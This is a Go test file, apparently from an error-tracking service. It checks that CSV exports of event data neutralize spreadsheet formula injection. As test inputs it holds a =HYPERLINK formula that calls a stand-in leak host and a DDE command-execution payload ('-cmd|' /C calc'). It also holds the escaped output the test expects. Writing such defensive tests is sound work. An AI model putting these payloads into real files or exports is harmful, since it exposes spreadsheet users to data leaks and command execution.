package main

import (
	"fmt"
	"io"
	"net/http"
	"testing"
	"time"

	"github.com/faultline/faultline/metadata/metadatatest"
)

// A Discover export opens in a spreadsheet as data: event text that reads as
// a formula is neutralized, numbers stay numbers.
func TestDiscoverCSVNeutralizesFormulas(t *testing.T) {
	srv := testServer(t)
	proj := metadatatest.Project(t, srv.db, testSecret)
	api := apiClient{t: t, base: "http://" + srv.addr, token: proj.Token}
	start := time.Now().Add(-time.Minute)
	tx := func(i int, name, delta string) string {
		id := fmt.Sprintf("%032x", 0xc5f000+i)
		payload := fmt.Sprintf(`{"type":"transaction","transaction":%q,"start_timestamp":%.3f,"timestamp":%.3f,`+
			`"contexts":{"trace":{"trace_id":"%s","span_id":"%016x","op":"http.server","status":"ok"}},"tags":{"delta":%q}}`,
			name, float64(start.UnixMilli())/1000, float64(start.UnixMilli()+50)/1000, id, i, delta)
		return `{"event_id":"` + id + `"}` + "\n" + `{"type":"transaction"}` + "\n" + payload
	}
	for i, e := range []string{
		tx(1, `=HYPERLINK("https://evil.example/?leak","open")`, "-12.5"),
		tx(2, "@SUM(1+1)", "-cmd|' /C calc'!A0"),
		tx(3, "GET /fine", "+3"),
	} {
		if resp, body := postEnvelope(t, srv.addr, proj.ProjectID, proj.PublicKey, e, nil); resp.StatusCode != http.StatusOK {
			t.Fatalf("post %d: %d %s", i, resp.StatusCode, body)
		}
	}
	events := "/api/0/organizations/" + proj.Organization + "/events/?statsPeriod=1h&field=transaction&field=tags[delta]&sort=transaction"
	var table struct{ Data []map[string]string }
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(200 * time.Millisecond) {
		if api.get(events, &table); len(table.Data) == 3 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("table: %+v", table.Data)
		}
	}
	req, _ := http.NewRequest(http.MethodGet, api.base+events+"&format=csv", nil)
	req.Header.Set("Authorization", "Bearer "+proj.Token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	want := "transaction,tags[delta]\n" +
		`"'=HYPERLINK(""https://evil.example/?leak"",""open"")",-12.5` + "\n" +
		"'@SUM(1+1),'-cmd|' /C calc'!A0\n" +
		"GET /fine,+3\n"
	if resp.StatusCode != http.StatusOK || string(body) != want {
		t.Errorf("CSV: %d\n got %q\nwant %q", resp.StatusCode, body, want)
	}
}
